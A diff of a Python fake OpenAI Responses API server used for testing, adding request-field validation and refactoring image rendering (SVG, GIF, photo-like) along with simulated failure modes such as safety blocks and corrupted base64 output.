-            raise _invalid(f"Invalid completion_window '{window}'. Supported values: {allowed}.", param)
-        if not isinstance(options.get("continuation_id", ""), str):
-            raise _invalid(
-                "Invalid type for 'continuation_id': expected a string.",
-                "background_options.continuation_id",
-                "invalid_type",
-            )
         if background is True and body.get("store") is False:
             raise _invalid("Background mode requires 'store' to be true: set store to true or leave it out.", "background")
         if window != "soonest":
@@ -1717,6 +2663,15 @@ class FakeOpenAI:
         return background is True, window
 
     def _plan(self, body: dict[str, Any]) -> _Plan:
+        # Every field must be one the SDK's ResponseCreateParams has, holding what its type allows.
+        check_fields(body, RESPONSE_CREATE_FIELDS)
+        check_metadata(body.get("metadata"))
+        if body.get("stream_options") is not None and body.get("stream") is not True:
+            # stream_options: "Only set this when you set `stream: true`."
+            raise _invalid("stream_options can only be set when stream is true.", "stream_options")
+        if body.get("conversation") is not None and body.get("previous_response_id") is not None:
+            # previous_response_id: "Cannot be used in conjunction with `conversation`."
+            raise _invalid("previous_response_id cannot be used together with conversation.", "previous_response_id")
         background, window = self._background_settings(body)
         model = body.get("model")
         if not isinstance(model, str) or not model:
@@ -1725,7 +2680,7 @@ class FakeOpenAI:
         previous_id = body.get("previous_response_id")
         if previous_id is not None:
             with self._lock:
-                previous = self.responses.get(previous_id) if isinstance(previous_id, str) else None
+                previous = self.responses.get(previous_id)
             if previous is None:
                 raise ApiError(
                     404 if self.expired_status == 404 else 400,
@@ -1743,10 +2698,7 @@ class FakeOpenAI:
                     param="previous_response_id",
                 )
         prompt, images = self._read_input(body.get("input"))
-        tools = body.get("tools") or []
-        if not isinstance(tools, list):
-            raise _invalid("Invalid type for 'tools': expected an array.", "tools", "invalid_type")
-        echoed_tools, spec = self._read_tool(tools, body.get("tool_choice", "auto"))
+        echoed_tools, spec = self._read_tools(body.get("tools") or [], body.get("tool_choice", "auto"), model)
         return _Plan(
             body=body,
             model=model,
@@ -1787,6 +2739,27 @@ class FakeOpenAI:
             "usage": None,
             "tool_usage": None,
         }
+
+    def _render(self, spec: _ImageSpec, prompt: str, inset: Image.Image | None) -> bytes:
+        """Encode one final image for ``spec`` (counting it in ``generations``): SVG text, an animated GIF, or a picture."""
+        with self._lock:
+            self.generations += 1
+            hostile = self._hostile_svg
+        if spec.output_format == "svg":
+            return render_svg(prompt, spec.width, spec.height, hostile=hostile)
+        if spec.output_format == "gif":
+            return render_gif(prompt, spec.width, spec.height, frames=spec.frame_count, frame_ms=spec.frame_ms)
+        if self.photo_like:
+            return render_photo(spec.width, spec.height, spec.output_format, transparent=spec.transparent, compression=spec.compression)
+        return render_image(
+            prompt,
+            spec.width,
+            spec.height,
+            spec.output_format,
+            transparent=spec.transparent,
+            compression=spec.compression,
+            inset=inset,
+        )
 
     def _build_response(self, plan: _Plan, outcome: _Outcome | None) -> dict[str, Any]:
         """Build the final Response JSON (rendering its image, which counts as one of ``generations``)."""
@@ -1848,32 +2821,15 @@ class FakeOpenAI:
                 )
                 text = "I couldn't create that image because the request was blocked by the safety system."
             else:
-                with self._lock:
-                    self.generations += 1
-                if self.photo_like:
-                    image = render_photo(
-                        spec.width,
-                        spec.height,
-                        spec.output_format,
-                        transparent=spec.transparent,
-                        compression=spec.compression,
-                    )
-                else:
-                    image = render_image(
-                        plan.prompt,
-                        spec.width,
-                        spec.height,
-                        spec.output_format,
-                        transparent=spec.transparent,
-                        compression=spec.compression,
-                        inset=plan.input_images[0] if plan.input_images else None,
-                    )
+                image = self._render(spec, plan.prompt, plan.input_images[0] if plan.input_images else None)
+                if spec.svg_author is not None:
+                    call["svg_usage"] = _svg_usage(spec, plan.prompt)
                 if kind == "damaged_image":
                     image = image[: len(image) // 2]
                 call["result"] = "!!!not-base64!!!" if kind == "bad_base64" else base64.b64encode(image).decode()
                 partials = spec.partial_images if plan.stream else 0
                 # Each streamed partial image adds 100 output tokens (OpenAI's image generation guide, via apidog).
-                image_out = _image_tokens(spec.quality, spec.width, spec.height) + 100 * partials
+                image_out = _spec_tokens(spec) + 100 * partials
                 text = "Here is your image."
             response["output"] += [{"type": "reasoning", "id": _new_id("rs_"), "summary": []}, call, _message(text)]
 
